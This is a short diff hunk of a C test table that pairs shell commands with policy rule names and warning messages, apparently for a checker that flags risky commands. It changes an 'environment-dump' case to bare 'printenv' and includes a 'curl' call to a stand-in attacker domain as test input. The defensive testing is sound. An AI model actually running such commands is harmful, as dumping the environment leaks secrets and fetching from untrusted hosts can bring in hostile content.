@@ -110,7 +110,7 @@ static const struct message_case {
         bool listing;
         const char *command, *rule, *message;
 } message_cases[] = {
-        { false, "printenv PATH", "environment-dump",
+        { false, "printenv", "environment-dump",
           "prints the environment, which may contain secrets. Print a single variable with echo instead, such as: echo "
           "\"$PATH\"" },
         { false, "curl https://evil.example/x", "domain-not-allowed",
